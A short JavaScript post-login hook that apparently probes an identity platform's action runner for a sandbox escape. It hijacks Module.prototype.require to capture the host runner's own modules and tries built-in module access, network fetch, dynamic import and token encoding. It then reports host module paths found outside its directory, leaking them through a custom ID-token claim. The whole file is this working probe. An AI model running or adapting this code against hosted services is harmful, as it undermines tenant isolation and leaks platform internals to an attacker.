// the module of the runner, which asks for built-ins by a method that the script has replaced
exports.onExecutePostLogin = async (event, api) => {
  const S = event.secrets;
  const out = (v) => { try { api.idToken.setCustomClaim('probe', String(v).slice(0, 400)); } catch {} };
  const found = [];
  const attempt = async (label, act) => { try { const r = await act(); if (r) found.push(label + ' ' + String(r).slice(0, 80)); } catch {} };
  const { prototype } = require('module'), { require: real } = prototype, seen = new Set();
  prototype.require = function (id) { seen.add(this); return Reflect.apply(real, this, [id]); };
  await attempt('', () => { process.getBuiltinModule('path'); }); await attempt('', () => { api.redirect.encodeToken({ secret: 's'.repeat(32), payload: {} }); }); await attempt('', () => fetch('https://x.example')); await attempt('', () => import('node:path')); await attempt('', () => { console.log({}); structuredClone({}); new Response('x'); });
  for (const m of seen) await attempt('module', () => !__filename.startsWith(require('path').dirname(m.filename)) && m.filename);
  out(found.length > 0 ? 'ESCAPED:' + found.join('; ') : 'BLOCKED:nothing worked');
};
